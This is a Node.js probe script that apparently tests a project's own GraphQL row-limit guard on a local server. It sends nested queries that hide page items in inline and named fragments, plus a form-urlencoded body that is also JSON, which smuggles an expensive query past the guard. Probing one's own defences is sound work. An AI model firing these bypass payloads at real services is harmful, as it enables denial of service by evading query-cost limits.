// Probe: GraphQL row-estimate limit (indexer/lib/graphqlLimits.ts) bypasses.
// Usage: node probe/gql-limits.mjs http://127.0.0.1:42069
const base = process.argv[2] ?? "http://127.0.0.1:42069";
const nested = (items) =>
  `{ awardWinners(limit: 1000) { ${items("items { place bounty { winners(limit: 1000) { ITEMS } } }")} } }`;
// 1) plain: estimator sees items directly -> expected 400 maxEstimatedRows
const plain = `{ awardWinners(limit: 1000) { items { place bounty { winners(limit: 1000) { items { place account } } } } } }`;
// 2) items hidden in an inline fragment: estimator does not see the page
const inline = `{ awardWinners(limit: 1000) { ... on awardWinnerPage { items { place bounty { winners(limit: 1000) { ... on awardWinnerPage { items { place account } } } } } } } }`;
// 3) items hidden in a named fragment
const named = `query { awardWinners(limit: 1000) { ...P } } fragment P on awardWinnerPage { items { place bounty { winners(limit: 1000) { ...Q } } } } fragment Q on awardWinnerPage { items { place account } }`;
async function post(label, body, contentType = "application/json") {
  const r = await fetch(base + "/graphql", { method: "POST", headers: { "content-type": contentType }, body });
  const t = await r.text();
  console.log(`${label}: HTTP ${r.status} ${t.slice(0, 220).replace(/\n/g, " ")}`);
}
await post("plain (expect 400)", JSON.stringify({ query: plain }));
await post("inline fragment", JSON.stringify({ query: inline }));
await post("named fragment", JSON.stringify({ query: named }));
// 4) form-urlencoded body that is also JSON: the guard JSON.parses a harmless query, yoga reads the form field
const harmless = "{ __typename }";
const body = `{"query":"${harmless}","x":"&query=${encodeURIComponent(plain + " #")}"}`;
await post("form-urlencoded smuggle of the plain query", body, "application/x-www-form-urlencoded");
